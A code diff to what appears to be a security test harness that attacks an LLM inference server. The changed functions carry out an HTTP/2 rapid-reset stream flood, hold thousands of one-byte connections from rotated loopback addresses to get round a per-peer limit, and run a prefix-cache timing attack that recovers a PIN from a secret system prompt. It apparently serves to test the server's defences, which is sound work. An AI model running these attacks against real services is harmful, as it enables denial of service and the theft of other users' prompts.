@@ -256,7 +256,7 @@ def attack_rapid_reset(target: Target, connections: int = 50, per: int = 1000) -
             sid = client.open_stream("/v1/chat/completions", end=False)
             client.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
         client.flush()
-        client.drain(0.3)
+        client.drain(1.0)
         outcomes[client.outcome()] += 1
         client.close()
     cost = f", server CPU {cpu_seconds(target.pid) - before:.1f} s" if before is not None else ""
@@ -270,9 +270,13 @@ def attack_one_byte_connections(target: Target, count: int = 4096) -> list[Attac
     held: list[socket.socket] = []
     refused = 0
     try:
-        for _ in range(count):
+        host, port = target.host_port
+        for i in range(count):
             try:
-                sock = socket.create_connection(target.host_port, timeout=5)
+                # From 16 loopback addresses when the daemon is local (the per-peer limit
+                # would stop one address alone); the other client comes from 127.0.0.1.
+                source = (f"127.0.0.{2 + i % 16}", 0) if host.startswith("127.") else None
+                sock = socket.create_connection((host, port), timeout=5, source_address=source)
                 sock.sendall(b"P")
                 held.append(sock)
             except OSError:
@@ -358,8 +362,13 @@ def attack_huge_model_value(target: Target) -> list[AttackRow]:
 
 
 def attack_prefix_cache_timing(target: Target, tries: int = 3) -> list[AttackRow]:
-    """A victim's secret system prompt, salted; an attacker guesses it without the salt."""
-    secret = "You are the assistant of ACME. The vault PIN is 4711. " * 8
+    """A victim's secret system prompt, unsalted and then salted; an attacker guesses it
+    without the salt. Unsalted, the right guess is a cache hit (the leak, as a control)."""
+    return [_prefix_timing(target, tries, salted) for salted in (False, True)]
+
+
+def _prefix_timing(target: Target, tries: int, salted: bool) -> AttackRow:
+    secret = f"You are the assistant of ACME{int(salted)}. The vault PIN is 4711. " * 40
 
     def ttft(system: str, salt: str | None) -> float:
         doc: dict[str, object] = {
@@ -380,16 +389,14 @@ def attack_prefix_cache_timing(target: Target, tries: int = 3) -> list[AttackRow
                 return time.perf_counter() - started
         return time.perf_counter() - started
 
-    ttft(secret, "victim-salt-5f1c")  # the victim's prompt is cached, under its salt
+    ttft(secret, "victim-salt-5f1c" if salted else None)  # the victim's prompt is cached
     right = min(ttft(secret, None) for _ in range(tries))
     wrong = min(ttft(secret.replace("4711", f"{i:04d}"), None) for i in range(tries))
-    return [
-        AttackRow(
-            "prefix-cache timing (victim salted)",
-            Counter({"200": 2 * tries + 1}),
-            f"TTFT right guess {right:.3f} s vs wrong {wrong:.3f} s (a leak: right << wrong)",
-        )
-    ]
+    return AttackRow(
+        f"prefix-cache timing (victim {'salted' if salted else 'unsalted: control'})",
+        Counter({"200": 2 * tries + 1}),
+        f"TTFT right guess {right:.3f} s vs wrong {wrong:.3f} s (a leak: right << wrong)",
+    )
 
 
 def attack_open_endpoints(target: Target) -> list[AttackRow]:
